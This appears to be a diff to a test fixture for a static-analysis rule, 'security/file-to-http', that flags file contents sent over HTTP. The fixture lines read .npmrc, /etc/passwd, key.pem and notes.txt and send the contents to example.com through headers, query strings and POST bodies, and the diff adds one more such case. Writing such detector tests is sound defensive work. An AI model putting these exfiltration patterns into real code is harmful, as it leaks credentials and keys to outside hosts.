@@ -8,6 +8,7 @@ test('what a file holds, in the body, the headers or the address', () =>
 import fs from 'node:fs';
 import https from 'node:https';
 import net from 'node:net';
+import { promisify } from 'node:util';
 import axios from 'axios';
 const content = fs.readFileSync('.npmrc', 'utf8');
 https.get({ hostname: 'example.com', path: '/upload', method: 'GET', headers: { Referer: content } }, () => {}); // $ security/file-to-http
@@ -17,6 +18,7 @@ fs.readFile('/etc/passwd', 'utf8', (error, text) => {
   request.end();
 });
 https.get('https://example.com/?text=' + content, () => {}); // $ security/file-to-http
+promisify(fs.readFile)('notes.txt').then((text) => axios.post('https://example.com/', text)); // $ security/file-to-http
 const stream = fs.createReadStream('key.pem');
 stream.on('data', (piece) => {
   https.request('https://example.com').write(piece); // $ security/file-to-http
